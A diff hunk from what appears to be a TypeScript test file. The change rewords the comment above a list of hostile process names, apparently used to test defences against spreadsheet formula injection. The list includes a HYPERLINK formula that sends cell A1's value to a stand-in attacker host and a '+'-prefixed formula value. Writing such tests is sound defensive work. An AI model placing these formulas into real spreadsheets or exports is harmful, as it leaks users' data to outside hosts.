@@ -13,7 +13,7 @@ import { until } from './until.ts'
 // The condition is what is waited for; this only ends a test that would never end.
 setDefaultTimeout(60_000)
 
-/** What somebody may call a process, to be calculated on the machine of whoever looks at it. */
+/** What somebody may call a process, to be calculated on the reader's machine. */
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?x="&A1,"sheet-canary")',
   '+1+sheet-canary',
